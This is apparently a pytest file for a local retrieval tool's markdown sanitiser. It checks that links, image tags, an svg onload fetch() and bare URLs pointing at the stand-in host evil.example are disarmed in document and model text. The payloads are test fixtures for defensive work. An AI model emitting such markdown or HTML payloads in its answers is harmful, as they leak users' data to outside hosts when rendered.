"""Markdown of documents and models: whatever it says, a renderer finds no address in it."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator

import pytest
from answers import answer
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser

from localrag.presentation.answers import inert_rendering, rendered
from localrag.presentation.markdown import Inert, InertStream, inert, plain_line
from localrag.types import Citation, SupportedSentence

EVIL = "http://evil.example/p.png?q=secret"
LIVE = (
    f"![a picture]({EVIL})",
    f"![a\npicture]( <{EVIL}> 'title')",
    f"[![nested]({EVIL})]({EVIL})",
    f"[text]({EVIL})",
    f"![picture][ref] and [text][]\n\n[ref]: {EVIL}\n[text]: <{EVIL}>",
    f"> - [ref]:\n>   {EVIL}\n\n![ref]",
    f"<{EVIL}>",
    "<someone@evil.example>",
    f'<img src="{EVIL}">',
    f'a <img\nsrc="{EVIL}" alt=x> b',
    f'<!-- --><img src="{EVIL}">',
    f'<?php ?><img src="{EVIL}">',
    '<div>\n<img src="//evil.example/p.png">\n</div>',
    f"<svg/onload=\"fetch('{EVIL}')\">",
    f'\\<img src="{EVIL}"> \\\\<img src="{EVIL}">',
    f"\\![a]({EVIL}) \\\\[a]({EVIL}) [a\\]({EVIL})",
    f"See {EVIL}, HTTPS://EVIL.example, www.evil.example and ftp://evil.example/x.",
    "http\\://evil.example http&colon;//evil.example &#104;ttp://evil.example",
    "www.(http://evil.example) ![](//evil.example) www.[a](//evil.example)",
    f"```html\n<img src='{EVIL}'>\n```",
    '```vega-lite\n{"data": {"url": "//evil.example/q.json"}}\n```',
    f"| a | b |\n|---|---|\n| ![a]({EVIL}) | <{EVIL}> |",
    f"春茶![图片]({EVIL})在三月，见{EVIL}。",
    f"[1]: {EVIL}\n\nIt was opened in 1907 [1].",
)
BARE = re.compile(r"https?:\S|ftp:/|www\.\w|(?<![\w:/])//\w", re.IGNORECASE)
"""What GitHub's dialect, and clients that look for more, make a link of."""


def addresses(markdown: str) -> Iterator[str]:
    """Where the page leads to, or fetches from, that a client makes of a text."""
    page = LexborHTMLParser(MarkdownIt("commonmark").enable("table").render(markdown))
    assert page.body is not None
    for node in page.body.traverse():
        for name in node.attributes if node.tag != "-text" else ():
            if name != "class":  # ```html
                yield f"{node.tag} {name}={node.attributes[name]}"
    yield from BARE.findall(page.body.text(separator=" "))


@pytest.mark.parametrize("text", LIVE)
def test_nothing_that_a_document_says_is_live(text: str) -> None:
    assert list(addresses(text)), "the test would see it"
    rendering = inert(text)
    assert list(addresses(rendering.text)) == []
    assert rendering.changed > 0


@pytest.mark.parametrize("text", LIVE)
def test_nothing_is_live_in_a_line_of_a_table(text: str) -> None:
    line = plain_line(text)
    assert list(addresses(f"| {line} |\n|---|\n| {line} |\n\n- {line}\n\n[^1]: {line}\n")) == []


def test_a_cell_shows_what_was_said_in_its_own_column() -> None:
    words = "*a* _b_ `c` ~~d~~ <e> &amp; f|g \\| h [^1] #1 ![i](j.png) \\"
    table = f"| {plain_line(words)} | b |\n|---|---|\n"
    page = LexborHTMLParser(MarkdownIt("commonmark").enable("table").render(table))
    assert [cell.text() for cell in page.css("th")] == [words, "b"]
    assert page.css("th *") == []
    assert plain_line("two\n lines\u202e") == "two lines\ufffd"


@pytest.mark.parametrize("text", LIVE)
def test_pieces_cut_anywhere_are_the_same(text: str) -> None:
    chance = random.Random(0)
    for size in [1, 2, 3, *(chance.randint(1, 12) for _ in range(20))]:
        stream = InertStream()
        pieces = [text[start : start + size] for start in range(0, len(text), size)]
        output = "".join([*map(stream.feed, pieces), stream.finish()])
        assert output == inert(text).text


def test_what_is_joined_of_such_parts_is_not_live_either() -> None:
    """Also parts that are no text by themselves, in any order."""
    chance = random.Random(1)
    signs = "![ ]( ](//e.example) < img src= \\ &lt; & #60; ]: ] [a ( ) www. http : // ` ``` 茶"
    parts = [*signs.split(), EVIL, "e.example", " src=", " ", "\n"]
    for _ in range(3000):
        text = "".join(chance.choices(parts, k=chance.randint(2, 14)))
        assert list(addresses(inert(text).text)) == [], text
        assert list(addresses(f"- {plain_line(text)}")) == [], text


@pytest.mark.parametrize(
    "text",
    [
        "It was opened in 1907 [1][2], see p. 3 (left).",
        "**Bold**, `code`, a < b & c > d, 5 <6, AT&T, x[0] (y), 9:30 // noon",
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n1. one\n2. two\n\n> said",
        "春茶在三月采摘 [1]。",
        "C:\\Users\\x, /srv/a//b, someone@firm.example, mailto:someone@firm.example",
    ],
)
def test_what_leads_nowhere_stays(text: str) -> None:
    assert inert(text) == Inert(text, 0)


def test_sentences_stay_where_they_are() -> None:
    first, second = f"See ![it]({EVIL}) and <b>this</b>.", "Opened &amp; closed [1]."
    text = f"{first} {second}"
    citations = (Citation(1, 1, "a.txt", 1, "Opened."),)
    support = (
        SupportedSentence(0, len(first), "no support", 0.0),
        SupportedSentence(len(first) + 1, len(text), "fully supported", 1.0),
    )
    rendering = inert_rendering(rendered(answer(text, citations, support)))
    assert rendering.text == inert(text).text
    assert [words for words, _ in rendering.rated] == [inert(first).text, inert(second).text]
    assert rendering.disarmed == inert(text).changed == 3
